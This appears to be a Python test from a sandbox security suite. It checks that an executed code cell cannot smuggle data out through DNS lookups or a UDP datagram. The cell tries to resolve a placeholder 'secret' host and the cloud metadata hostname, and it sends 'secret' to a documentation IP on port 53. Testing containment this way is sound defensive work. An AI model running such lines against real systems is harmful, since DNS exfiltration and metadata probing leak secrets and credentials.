"""Words are smuggled out as host names."""

CELLS = [
    r"""
import socket
for name in ("secret.example.org", "localhost.localdomain", "metadata.google.internal"):
    try:
        socket.getaddrinfo(name, 80)
        reached("resolved " + name)
    except OSError:
        pass
try:
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.sendto(b"secret", ("192.0.2.53", 53))
    reached("sent a datagram")
except OSError:
    pass
""",
]


def test_it_gains_nothing(batch):
    batch.failed(__file__)
